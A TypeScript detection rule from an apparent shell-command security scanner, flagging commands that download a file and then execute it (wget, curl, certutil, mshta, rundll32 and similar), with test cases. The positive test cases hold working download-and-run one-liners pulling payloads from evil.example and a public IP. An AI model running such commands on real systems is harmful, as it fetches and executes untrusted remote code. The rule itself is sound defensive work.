import { defineRule, type Hit } from './rule.js';
import { basename, fetchOutputs, hostOf, invocationUrls, isPublicIp, isStagingPath } from './match.js';
import { isCodeRunner, isFetcher } from '../programs.js';
import type { Invocation, RuleContext } from '../ir.js';

export interface DropRun { fetch: Invocation; run: Invocation; file: string; risky: boolean }

/** A file a fetcher saved, then executed (directly, by an interpreter, Start-Process, start). */
export function dropRuns(ctx: RuleContext): DropRun[] {
  const out: DropRun[] = [];
  const fetches = ctx.invocations.filter(isFetcher);
  for (const fetch of fetches) {
    for (const file of fetchOutputs(fetch)) {
      const name = basename(file).toLowerCase();
      if (!name) continue;
      for (const run of ctx.invocations) {
        if (run === fetch || run.id < fetch.id && run.parent !== fetch.parent) continue;
        const w = basename(run.written).toLowerCase();
        const direct = w === name && (run.written.includes('/') || run.written.includes('\\') || run.lang !== 'posix');
        const operand = run.args.find((a) => !a.startsWith('-'));
        const interp = isCodeRunner(run.program) && operand !== undefined && basename(operand).toLowerCase() === name;
        const launched = /^(start-process|invoke-item|start|rundll32|regsvr32|msiexec|mshta|wscript|cscript|explorer|cmd)$/.test(run.program) && run.args.some((a) => basename(a.replace(/^['"]|['"]$/g, '')).toLowerCase().startsWith(name));
        if (!direct && !interp && !launched) continue;
        const urls = invocationUrls(fetch);
        const risky = urls.some((u) => u.startsWith('http://') || u.startsWith('ftp') || isPublicIp(hostOf(u) ?? '')) || isStagingPath(file) || (interp && isCodeRunner(run.program) && !/^(msiexec)$/.test(run.program)) || /^(mshta|rundll32|regsvr32|wscript|cscript)$/.test(run.program);
        out.push({ fetch, run, file, risky });
      }
    }
  }
  return out;
}

export const rule = defineRule({
  id: 'download_then_run',
  category: 'download_execute',
  severity: 'critical',
  technique: 'T1105',
  title: 'Downloads a file and then runs it (wget -O /tmp/x; sh /tmp/x; certutil … && x.exe)',
  check(ctx) {
    const hits: Hit[] = [];
    for (const d of dropRuns(ctx)) {
      if (!d.risky) continue;
      hits.push({ span: { start: Math.min(d.fetch.span.start, d.run.span.start), end: Math.max(d.fetch.span.end, d.run.span.end) }, explanation: `downloads ${invocationUrls(d.fetch)[0] ?? 'a file'} to ${d.file} and then runs it` });
    }
    return hits;
  },
  cases: {
    positive: [
      ['bash', 'wget http://1.2.3.4/bot -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x'],
      ['bash', 'curl -o /tmp/i.sh https://evil.example/i.sh && bash /tmp/i.sh'],
      ['cmd', 'certutil -urlcache -split -f http://evil.example/a.exe %TEMP%\\a.exe && start %TEMP%\\a.exe'],
    ],
    negative: [
      ['bash', 'curl -fsSL https://example.com/install.sh -o install.sh'],
      ['bash', 'curl -LO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && chmod +x kubectl'],
    ],
  },
});
